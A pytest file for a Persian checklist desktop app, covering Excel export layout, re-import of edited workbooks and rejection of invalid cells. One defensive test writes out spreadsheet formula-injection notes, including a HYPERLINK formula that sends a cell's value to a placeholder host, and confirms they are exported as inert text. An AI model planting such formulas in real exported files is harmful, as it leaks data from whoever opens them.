"""Checklists to Excel and back: layout of the export, a clean import, a refused one."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import openpyxl
import pytest

from integrity_desktop.db.store import Store
from integrity_desktop.digits import to_ascii_digits, to_persian_digits
from integrity_desktop.errors import UserError
from integrity_desktop.reports import checklist_excel
from integrity_desktop.services.checklists import excel_import as checklist_import
from integrity_desktop.services.checklists import filled as checklists
from integrity_desktop.services.checklists import scoring

from .checklist_helpers import digest
from .conftest import actor

INSPECTOR = actor("inspector")


@pytest.fixture
def exported(store: Store, tmp_path: Path) -> tuple[Store, Path, str]:
    template = scoring.three_year_template_id()
    q1 = checklists.create_checklist(store, INSPECTOR, template, None, "1403-Q1")
    checklists.create_checklist(store, INSPECTOR, template, None, "1403-Q2")
    entry = checklists.get_checklist(store, INSPECTOR, q1.id).entries[0]
    checklists.save_entry(store, INSPECTOR, entry.id, status="partial", progress=30, note="در جریان")
    out = checklist_excel.export_workbook(store, INSPECTOR, tmp_path / "checklists.xlsx")
    return store, out.path, q1.id


def _column(ws: openpyxl.worksheet.worksheet.Worksheet, header: str) -> str:
    for cell in ws[1]:
        if cell.value == header:
            return str(cell.column_letter)
    raise AssertionError(header)


def _row_of(ws: openpyxl.worksheet.worksheet.Worksheet, code: str) -> int:
    col = _column(ws, "کد شاخص")
    return next(c.row for c in ws[col] if c.value == to_persian_digits(code))


def test_export_layout(exported: tuple[Store, Path, str]) -> None:
    _store, path, _ = exported
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["سه\u200cماههٔ اول ۱۴۰۳", "سه\u200cماههٔ دوم ۱۴۰۳"]
    ws = book.worksheets[0]
    assert ws.sheet_view.rightToLeft and ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:O135"  # the 134 indicators due in a first quarter
    headers = [c.value for c in ws[1]]
    assert headers[:5] == ["واحد", "کد شاخص", "عنوان شاخص", "وضعیت", "درصد پیشرفت"]
    # the id the import matches on is the last column, hidden: not the first page of a print
    assert headers[-1] == "شناسه" and ws.column_dimensions["O"].hidden
    assert ws.column_dimensions["C"].width == 55
    row = {h: c for h, c in zip(headers, ws[2], strict=True)}
    assert row["کد شاخص"].value == "۱/۱" and row["کد شاخص"].data_type == "s"  # Persian digits, text
    assert row["وضعیت"].value == "تا حدی انجام شد"
    assert row["درصد پیشرفت"].value == 30 and "%" in row["درصد پیشرفت"].number_format
    assert row["یادداشت"].value == "در جریان"
    assert isinstance(row["آخرین تغییر"].value, str) and row["آخرین تغییر"].value.startswith("۱۴")
    assert isinstance(row["آخرین تغییر (میلادی)"].value, dt.datetime)  # and a real date
    assert ws.cell(_row_of(ws, "6/1"), headers.index("محاسبه‌شده") + 1).value == "بله"  # computed
    value = ws.cell(_row_of(ws, "6/1"), headers.index("مقدار") + 1)
    assert value.value == 0 and value.data_type == "n"  # the figure the records give now, a number
    assert not any(c.value == "۱/۷" for c in ws["B"])  # annual: not asked in a first quarter
    target = ws.cell(_row_of(ws, "17/4"), headers.index("هدف") + 1).value
    assert target == "دست‌کم ۱۵٪"
    measure = ws.cell(_row_of(ws, "10/3"), headers.index("سنجه") + 1).value
    assert "میانگین روز (روز)" in measure and "شاخص معکوس" in measure
    # printed: landscape, one page wide, the header row on every page, office in the page header
    assert ws.page_setup.orientation == "landscape" and ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$1:$1"
    assert "تهران" in ws.oddHeader.center.text and "صفحه" in ws.oddFooter.center.text
    # a drop-down of the status labels on the status cells
    (validation,) = ws.data_validations.dataValidation
    assert validation.type == "list" and str(validation.sqref) == "D2:D135"
    assert all(label in validation.formula1 for label in ("انجام شد", "تا حدی انجام شد", "موضوعیت ندارد"))


def test_hostile_notes_stay_text(store: Store, tmp_path: Path) -> None:
    summary = checklists.create_checklist(store, INSPECTOR, scoring.three_year_template_id(), None, "1403-Q1")
    entries = checklists.get_checklist(store, INSPECTOR, summary.id).entries
    hostile = ["=1+2", '=HYPERLINK("http://example.invalid/?"&A2,"نام")', "+98", "-5", "@x", "\uff1d1"]
    for entry, note in zip(entries, hostile, strict=False):
        checklists.save_entry(store, INSPECTOR, entry.id, status="done", note=note)
    out = checklist_excel.export_workbook(store, INSPECTOR, tmp_path / "h.xlsx").path
    ws = openpyxl.load_workbook(out).worksheets[0]
    note_col = _column(ws, "یادداشت")
    notes = {c.value: c for c in ws[note_col][1:] if c.value}
    assert set(hostile) <= set(notes)
    assert all(notes[h].data_type == "s" and notes[h].quotePrefix for h in hostile)
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    # and the file imports back unchanged (the notes are text, as written)
    again = checklist_import.import_workbook(store, INSPECTOR, out, dry_run=True)
    assert (again.updated, again.problems) == (0, ())


def test_edited_workbook_imports_back(exported: tuple[Store, Path, str]) -> None:
    store, path, q1 = exported
    book = openpyxl.load_workbook(path)
    ws = book.worksheets[0]
    r = _row_of(ws, "4/4")
    ws[f"{_column(ws, 'وضعیت')}{r}"] = "انجام\u200cشد"  # with a ZWNJ: the same label
    ws[f"{_column(ws, 'مقدار')}{r}"] = "۱۲"
    ws[f"{_column(ws, 'یادداشت')}{r}"] = "گزارش به دفتر مرکزی رفت"
    ws[f"{_column(ws, 'درصد پیشرفت')}{_row_of(ws, '1/2')}"] = 75
    ws[f"{_column(ws, 'وضعیت')}{_row_of(ws, '1/1')}"] = "تا حدی انجام شد"  # unchanged label
    ws[f"{_column(ws, 'کد شاخص')}{_row_of(ws, '1/3')}"] = "1/3"  # Latin digits: the same code
    book.save(path)
    dry = checklist_import.import_workbook(store, INSPECTOR, path, dry_run=True)
    assert (dry.updated, dry.applied, dry.problems) == (2, False, ())
    summary = checklist_import.import_workbook(store, INSPECTOR, path)
    assert (summary.rows, summary.updated, summary.unchanged, summary.applied) == (269, 2, 267, True)
    view = checklists.get_checklist(store, INSPECTOR, q1)
    e22 = next(e for e in view.entries if e.item_code == "4/4")
    assert (e22.status, e22.value, e22.note) == ("done", 12.0, "گزارش به دفتر مرکزی رفت")
    assert view.summary.completion == scoring.completion((e.status, e.progress) for e in view.entries)
    again = checklist_import.import_workbook(store, INSPECTOR, path)
    assert again.updated == 0  # importing the same file twice changes nothing more


def test_bad_cells_are_listed_with_addresses_and_nothing_is_written(
    exported: tuple[Store, Path, str]
) -> None:
    store, path, _ = exported
    book = openpyxl.load_workbook(path)
    ws = book.worksheets[0]
    status_cell = f"{_column(ws, 'وضعیت')}{_row_of(ws, '1/3')}"
    progress_cell = f"{_column(ws, 'درصد پیشرفت')}{_row_of(ws, '1/4')}"
    value_cell = f"{_column(ws, 'مقدار')}{_row_of(ws, '17/4')}"  # a percent
    ratio_cell = f"{_column(ws, 'مقدار')}{_row_of(ws, '10/2')}"  # computed (issue 20): ignored
    count_cell = f"{_column(ws, 'مقدار')}{_row_of(ws, '4/4')}"  # a whole number (2/2 is computed since issue 21)
    days_cell = f"{_column(ws, 'مقدار')}{_row_of(ws, '10/3')}"  # computed (issue 20): ignored
    score_cell = f"{_column(ws, 'مقدار')}{_row_of(ws, '8/1')}"  # a score, 0-100
    status_cell_value = f"{_column(ws, 'مقدار')}{_row_of(ws, '2/1')}"  # a status indicator: no number
    ws[f"{_column(ws, 'یادداشت')}{_row_of(ws, '1/6')}"] = "این تغییر درست است ولی نباید نوشته شود"
    ws[f"{_column(ws, 'مقدار')}{_row_of(ws, '6/1')}"] = 9  # computed: read-only, ignored
    ws[status_cell] = "تمام"
    ws[progress_cell] = 140
    ws[value_cell] = 250
    ws[ratio_cell] = 500
    ws[count_cell] = "2.5"
    ws[days_cell] = 9999
    ws[score_cell] = "۱۵۰"
    ws[status_cell_value] = 3
    ws2 = book.worksheets[1]
    ws2[f"{_column(ws2, 'شناسه')}5"] = "not-an-id"
    book.save(path)
    before = digest(store)
    summary = checklist_import.import_workbook(store, INSPECTOR, path)
    assert not summary.applied
    found = {(p.sheet, p.cell) for p in summary.problems}
    assert found == {(ws.title, status_cell), (ws.title, progress_cell), (ws.title, value_cell),
                     (ws.title, count_cell), (ws.title, score_cell), (ws.title, status_cell_value),
                     (ws2.title, f"{_column(ws2, 'شناسه')}5")}
    message = next(p for p in summary.problems if p.cell == progress_cell).message_fa
    assert message.startswith(f"برگهٔ «{ws.title}» خانهٔ {progress_cell}:") and "۱۰۰" in message
    percent = next(p for p in summary.problems if p.cell == value_cell).fa
    assert "شاخص ۱۷/۴" in percent and "از ۰ تا ۱۰۰" in percent and "«۲۵۰»" in percent
    assert "عددی درست" in next(p for p in summary.problems if p.cell == count_cell).fa
    # ratio and average-days bounds: tests/test_indicator_figures.py::test_ratio_and_average_days_bounds
    assert "«امتیاز»" in next(p for p in summary.problems if p.cell == score_cell).fa
    assert "فقط وضعیت اجرا" in next(p for p in summary.problems if p.cell == status_cell_value).fa
    assert digest(store) == before


def test_not_an_excel_file_is_a_user_error(store: Store, tmp_path: Path) -> None:
    bad = tmp_path / "x.xlsx"
    bad.write_text("not a workbook")
    with pytest.raises(UserError) as err:
        checklist_import.import_workbook(store, INSPECTOR, bad)
    assert err.value.code == "bad_excel"


def test_reform_codes_are_written_as_people_read_them_and_import_back(store: Store, tmp_path: Path) -> None:
    """«اصلاح ۶/۵» in the code column (never «R۶/۵», never confused with the three-year «۶/۵»);
    the stored «R6/5» or any digit form imports as the same code."""
    from integrity_desktop.services.store.seed import template_id

    year = checklists.create_checklist(store, INSPECTOR, template_id("reform-1397-1399", 1), None, "1403")
    out = checklist_excel.export_workbook(store, INSPECTOR, tmp_path / "r.xlsx", checklist_ids=[year.id]).path
    book = openpyxl.load_workbook(out)
    ws = book.worksheets[0]
    codes = [c.value for c in ws[_column(ws, "کد شاخص")][1:]]
    assert "اصلاح ۶/۵" in codes and not any(str(c).startswith("R") for c in codes)
    row = codes.index("اصلاح ۶/۵") + 2
    ws[f"{_column(ws, 'کد شاخص')}{row}"] = "R6/5"
    ws[f"{_column(ws, 'کد شاخص')}{row - 1}"] = to_ascii_digits(codes[row - 3])  # the one before, «اصلاح 6/4»
    book.save(out)
    assert checklist_import.import_workbook(store, INSPECTOR, out, dry_run=True).problems == ()
    ws[f"{_column(ws, 'کد شاخص')}{row}"] = "۶/۵"  # the three-year programme's 6/5: another indicator
    book.save(out)
    (problem,) = checklist_import.import_workbook(store, INSPECTOR, out, dry_run=True).problems
    assert problem.cell == f"{_column(ws, 'کد شاخص')}{row}" and "«اصلاح ۶/۵»" in problem.fa
